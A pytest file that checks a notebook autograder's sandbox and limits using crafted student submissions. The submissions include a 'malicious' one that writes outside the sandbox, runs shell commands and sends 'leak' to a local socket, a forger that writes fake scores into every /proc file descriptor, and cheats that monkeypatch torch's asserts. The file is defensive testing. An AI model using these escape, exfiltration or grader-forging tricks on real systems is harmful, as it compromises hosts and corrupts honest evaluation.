"""Grading a class (rnntutor.grading): a folder of lstm_step submissions, correct, wrong, empty, endless,
crashing, memory-hungry, cheating, malicious, forging and broken, is graded to a CSV in which each scores what
it deserves; the endless one is stopped at the time limit and the crashing one alone fails, both keeping the
points of question 1; the one that allocates 50 GB fails in that cell alone, under the memory limit, and says
so; one that spins past its CPU seconds is killed and keeps question 1; the cheats get no hidden points;
nothing the malicious one tries is written outside its sandbox, and it reaches no network; the forger cannot
write into the grader's pipe; a file that is not a notebook fails alone. Also the checks of
rnntutor.hidden_tests on their own, and the command line.

The submissions are graded in two runs: the endless one alone with a short time limit, the others two at a
time with a limit that a loaded machine meets.
"""

import csv
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest
import torch
from nbformat import v4

from rnntutor import grading
from rnntutor import hidden_tests as ht
from rnntutor.kernels import ATTEMPTS

ROOT = Path(__file__).resolve().parents[1]
NAME = "lstm_step"
POINTS = {"q1": 4, "q2": 3}  # public 1 + 1 and hidden 2 for q1; public 1 and hidden 2 for q2
PUBLIC = {"q1": 2, "q2": 1}
ENDLESS_TIMEOUT = 20  # seconds from its first cell: the endless one is stopped, then graded again without the loop
TIMEOUT = 240  # the others finish well within it even on a loaded machine


@pytest.fixture(scope="module")
def autograder(tmp_path_factory):
    output = tmp_path_factory.mktemp("built")
    subprocess.run([sys.executable, str(ROOT / "tools" / "assignments.py"), "--no-run-tests", "--output", str(output),
                    str(ROOT / "assignments" / NAME / f"{NAME}.ipynb")], check=True, capture_output=True, cwd=ROOT)
    return output / NAME


def _with(nb, after: str, source: str | None = None, replace: tuple | None = None):
    """A copy of ``nb`` with a code cell ``source`` added after the first cell holding ``after``, or with
    ``replace = (old, new)`` applied to that cell."""
    nb = nbformat.reads(nbformat.writes(nb), as_version=4)
    index = next(i for i, c in enumerate(nb.cells) if after in c.source)
    if replace:
        assert replace[0] in nb.cells[index].source
        nb.cells[index].source = nb.cells[index].source.replace(*replace)
    if source is not None:
        nb.cells.insert(index + 1, v4.new_code_cell(source))
    return nb


FORGER = """import glob

for path in glob.glob("/proc/*/fd/*"):
    try:
        with open(path, "w") as f:
            f.write('result {"q1": [4, 4], "q2": [3, 3]}\\n')
    except OSError:
        pass"""


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.server.getsockname()[1], 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture(scope="module")
def graded(autograder, tmp_path_factory):
    """Grade the submissions; return (grades by submission, CSV rows by submission, sandbox, outside folder,
    listener)."""
    root = tmp_path_factory.mktemp("grading")
    outside, listener = root / "outside", Listener()
    outside.mkdir()
    solution = nbformat.read(autograder / "autograder" / f"{NAME}.ipynb", as_version=4)
    blank = nbformat.read(autograder / "student" / f"{NAME}.ipynb", as_version=4)
    q1_check, step = 'grader.check("q1")', "i, f, g, o = ("
    malicious = f'''import os, pathlib, socket, subprocess
for target in [{str(outside / "written")!r}, {str(root / "submissions" / "written.ipynb")!r},
               os.path.expanduser("~/../../written"), "/etc/rnntutor-written", "/var/tmp/rnntutor-written"]:
    try:
        pathlib.Path(target).write_text("written by a submission")
    except OSError as error:
        print("refused:", error)
os.system("touch {outside / "by-os-system"}")
subprocess.run(["sh", "-c", "echo x > {outside / "by-subprocess"}"])
try:
    socket.create_connection(("127.0.0.1", {listener.port}), timeout=3).sendall(b"leak")
except OSError as error:
    print("no network:", error)'''
    submissions = {
        "correct": solution,
        "wrong": _with(solution, step, replace=(step, "i, f, o, g = (")),  # gates in the wrong order
        "empty": blank,
        "crashing": _with(solution, q1_check, "import os\n\nos._exit(1)"),
        "hog": _with(solution, q1_check, "big = torch.empty(50 * 1024**3, dtype=torch.uint8)\nbig.fill_(1)"),
        "cheat_assert": _with(_with(solution, step, replace=(step, "i, f, o, g = (")), "grader = otter.Notebook",
                              "torch.testing.assert_close = lambda *args, **kwargs: None\n"
                              "torch.allclose = lambda *args, **kwargs: True"),
        "cheat_lstm_cell": _with(solution, step, replace=(
            "i, f, g, o = (x @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh).chunk(4, dim=-1)",
            "return torch.lstm_cell(x, (h_prev, c_prev), W_ih, W_hh, b_ih, b_hh)")),
        "malicious": _with(solution, "grader = otter.Notebook", malicious),
        "forger": _with(blank, "grader = otter.Notebook", FORGER),  # writes a result into every pipe it can open
    }
    folder, endless_folder = root / "submissions", root / "endless"
    folder.mkdir()
    endless_folder.mkdir()
    for kind, nb in submissions.items():
        nbformat.write(nb, folder / f"{kind}.ipynb")
    (folder / "broken.ipynb").write_text("{ not a notebook")
    nbformat.write(_with(solution, q1_check, "while True:\n    pass"), endless_folder / "endless.ipynb")
    zip_path = next((autograder / "autograder").glob(f"{NAME}-autograder_*.zip"))
    grades = grading.grade_folder(zip_path, folder, root / "grades.csv", timeout=TIMEOUT, jobs=2, progress=False)
    grades += grading.grade_folder(zip_path, endless_folder, root / "endless.csv", timeout=ENDLESS_TIMEOUT,
                                   progress=False)
    rows = {}
    for path in (root / "grades.csv", root / "endless.csv"):
        with open(path, newline="") as f:
            rows.update({row["submission"]: row for row in csv.DictReader(f)})
    listener.server.close()
    return {g.submission.removesuffix(".ipynb"): g for g in grades}, rows, grading.choose_sandbox("auto"), root, \
        listener


def test_csv_has_a_row_per_submission_with_questions_and_total(graded):
    grades, rows, *_ = graded
    assert set(rows) == {f"{kind}.ipynb" for kind in grades}
    for row in rows.values():
        assert list(row) == ["submission", "q1", "q2", "total"]
        assert float(row["total"]) == float(row["q1"]) + float(row["q2"])


@pytest.mark.parametrize("kind, status, scores", [
    ("correct", "graded", POINTS),
    ("malicious", "graded", POINTS),  # its code runs, fails to do harm, and its answers are right
    ("wrong", "graded", {"q1": 1, "q2": 3}),  # q1: the shapes are right; q2 runs with a correct step
    ("empty", "graded", {"q1": 0, "q2": 0}),
    ("endless", "timed out", {"q1": 4, "q2": 0}),  # stopped in the loop after q1: q1 kept
    ("crashing", "crashed", {"q1": 4, "q2": 0}),  # the kernel dies after q1: q1 kept
    ("hog", "out of memory", POINTS),  # its 50 GB tensor fails under the 4 GB limit; its answers are right
    ("cheat_assert", "graded", {"q1": 1, "q2": 3}),  # no hidden point for the wrong step: as if it had not cheated
    ("cheat_lstm_cell", "graded", {"q1": 2, "q2": 3}),  # torch.lstm_cell passes the public tests, not the hidden
    ("forger", "graded", {"q1": 0, "q2": 0}),  # the grader's pipe is out of its reach
    ("broken", "crashed", {"q1": 0, "q2": 0}),  # not a notebook: it alone fails
])
def test_each_submission_scores_what_it_deserves(graded, kind, status, scores):
    grades, rows, *_ = graded
    grade = grades[kind]
    assert grade.status == status, grade.summary(7)
    assert {q: grade.scores.get(q, (0, 0))[0] for q in POINTS} == scores, grade.summary(7)
    assert {q: float(rows[f"{kind}.ipynb"][q]) for q in POINTS} == scores


def test_the_summary_says_which_cell_ran_out_of_memory(graded):
    grades, *_ = graded
    line = grades["hog"].summary(7)
    nb = nbformat.read(graded[3] / "submissions" / "hog.ipynb", as_version=4)
    cell = 1 + next(i for i, c in enumerate(nb.cells) if "50 * 1024**3" in c.source)
    assert f"cell {cell} asked for more memory than the limit of 4 GB" in line, line


def test_a_kernel_past_its_cpu_seconds_is_killed_and_keeps_what_it_answered(autograder, tmp_path):
    """A loop that the wall-clock limit (120 s) would stop much later is killed at 8 CPU seconds."""
    solution = nbformat.read(autograder / "autograder" / f"{NAME}.ipynb", as_version=4)
    nbformat.write(_with(solution, 'grader.check("q1")', "while True:\n    pass"), tmp_path / "spinning.ipynb")
    zip_path = next((autograder / "autograder").glob(f"{NAME}-autograder_*.zip"))
    grade = grading.grade_one(tmp_path / "spinning.ipynb", zip_path, sandbox=grading.choose_sandbox("auto"),
                              limits=grading.Limits(timeout=120, cpu_time=8))
    assert grade.status == "crashed" and "used up its 8 CPU seconds" in grade.detail, grade.summary(7)
    assert {q: points for q, (points, _) in grade.scores.items()} == {"q1": 4, "q2": 0}, grade.summary(7)


def test_a_kernel_that_died_as_it_started_is_started_again(monkeypatch, tmp_path):
    # jupyter_client's port race (rnntutor.kernels): no cell ran, so it says nothing of the submission.
    died = (None, [], ("crashed", "RuntimeError: Kernel died before replying to kernel_info"))
    graded_run = ({"q1": (1.0, 1.0)}, ["start a", "done a"], None)
    runs = iter([died, died, graded_run])
    monkeypatch.setattr(grading, "_run_child", lambda *args: next(runs))
    submission = tmp_path / "lucky.ipynb"
    nbformat.write(v4.new_notebook(), submission)
    grade = grading.grade_one(submission, tmp_path / "autograder.zip")
    assert (grade.status, grade.scores) == ("graded", {"q1": (1.0, 1.0)})

    runs = iter([died] * ATTEMPTS + [graded_run])
    grade = grading.grade_one(submission, tmp_path / "autograder.zip")
    assert grade.status == "crashed" and "Kernel died" in grade.detail and next(runs) == graded_run

    crashed_in_a_cell = (None, ["start a"], ("crashed", "RuntimeError: Kernel died before replying to kernel_info"))
    runs = iter([crashed_in_a_cell, graded_run, graded_run])
    grade = grading.grade_one(submission, tmp_path / "autograder.zip")
    assert grade.status == "crashed", "a kernel that died after a cell started is the submission's doing"


def test_limits_must_be_positive():
    assert grading.Limits(timeout=30).cpu_seconds == 60
    assert grading.Limits(memory=0.5).memory_bytes == 2**29
    with pytest.raises(ValueError, match="memory limit must be a positive number, got 0"):
        grading.Limits(memory=0)


def test_nothing_written_outside_the_sandbox_and_no_network(graded):
    grades, rows, sandbox, root, listener = graded
    assert sandbox in ("bwrap", "user")
    assert list((root / "outside").iterdir()) == []
    assert sorted(p.name for p in (root / "submissions").iterdir()) == sorted(f"{k}.ipynb" for k in grades
                                                                               if k != "endless")
    print("\n".join(grade.summary(7) for grade in grades.values()))
    assert not Path("/etc/rnntutor-written").exists()
    if sandbox == "bwrap":  # as the user nobody the network stays open, and /var/tmp is writable by all
        assert listener.connections == 0
        assert not Path("/var/tmp/rnntutor-written").exists()
        assert not (Path(tempfile.gettempdir()) / "written").exists()  # ~/../../written from its home folder


def test_no_sandbox_no_grading_unless_asked(monkeypatch):
    monkeypatch.setattr(grading, "sandbox_available", lambda kind: f"no {kind}")
    with pytest.raises(SystemExit, match="no sandbox: install bubblewrap"):
        grading.choose_sandbox("auto")
    with pytest.raises(SystemExit, match="cannot use --sandbox bwrap: no bwrap"):
        grading.choose_sandbox("bwrap")
    assert grading.choose_sandbox("none") == "none"


def test_hidden_checks_refuse_shortcuts_and_accept_any_correct_dtype():
    def lstm_step(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
        i, f, g, o = (x @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh).chunk(4, dim=-1)
        c_t = torch.sigmoid(f) * c_prev + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(c_t), c_t

    cell = torch.lstm_cell

    def aliased(x, h, c, W_ih, W_hh, b_ih, b_hh):
        return cell(x, (h, c), W_ih, W_hh, b_ih, b_hh)

    def hidden_by_getattr(x, h, c, W_ih, W_hh, b_ih, b_hh):
        return getattr(torch, "lstm" + "_cell")(x, (h, c), W_ih, W_hh, b_ih, b_hh)

    def by_module(x, h, c, W_ih, W_hh, b_ih, b_hh):
        return torch.nn.functional.linear(x, W_ih, b_ih)

    @torch.no_grad()
    def decorated(x, h, c, W_ih, W_hh, b_ih, b_hh):
        return torch.lstm_cell(x, (h, c), W_ih, W_hh, b_ih, b_hh)

    for dtype in (torch.float32, torch.float64):
        args = ht.tensors(0, [(3, 2), (3, 5), (3, 5), (20, 2), (20, 5), (20,), (20,)], dtype)
        expected_h, expected_c = ht.lstm_step(*ht.numpy(*args))
        h_t, c_t = ht.call(lstm_step, *args)
        ht.expect_close(ht.call(torch.no_grad()(lstm_step), *args)[0], expected_h, "h_t, decorated", dtype)
        ht.expect_close(h_t, expected_h, "h_t", dtype)
        ht.expect_close(c_t, expected_c, "c_t", dtype)
        with pytest.raises(AssertionError, match="differs"):
            ht.expect_close(h_t + 1e-3, expected_h, "h_t", dtype)
        for cheat, message in [(aliased, "uses lstm_cell"), (hidden_by_getattr, "called torch's lstm_cell"),
                               (by_module, "uses functional, nn"), (decorated, "decorated uses lstm_cell")]:
            with pytest.raises(ht.ForbiddenShortcut, match=message):
                ht.call(cheat, *args)
    with pytest.raises(AssertionError, match="expected a torch.Tensor"):
        ht.expect_close([[0.0]], expected_h, "h_t")


def test_hidden_checks_refuse_the_packages_own_metrics():
    notebook = {}  # a submission's namespace
    exec("import rnntutor\n"
         "from rnntutor.metrics import mase_scale as imported\n\n"
         "def own(train, season):\n"
         "    return sum(abs(train[t] - train[t - season]) for t in range(season, len(train))) / (len(train) - 1)\n\n"
         "def through_the_package(train, season):\n"
         "    return rnntutor.metrics.mase_scale(train, season)\n\n"
         "def through_an_import(train, season):\n"
         "    return imported(train, season)\n", notebook)
    assert ht.call(notebook["own"], [1.0, 2.0, 4.0], 1) == 1.5  # differences 1 and 2, over 3 - 1
    for cheat in ("through_the_package", "through_an_import"):
        with pytest.raises(ht.ForbiddenShortcut, match="mase_scale"):
            ht.call(notebook[cheat], [1.0, 2.0, 4.0], 1)


def test_command_line_arguments(tmp_path, capsys):
    with pytest.raises(SystemExit):
        grading.main([str(tmp_path / "missing.zip"), str(tmp_path)])
    assert "no autograder zip" in capsys.readouterr().err
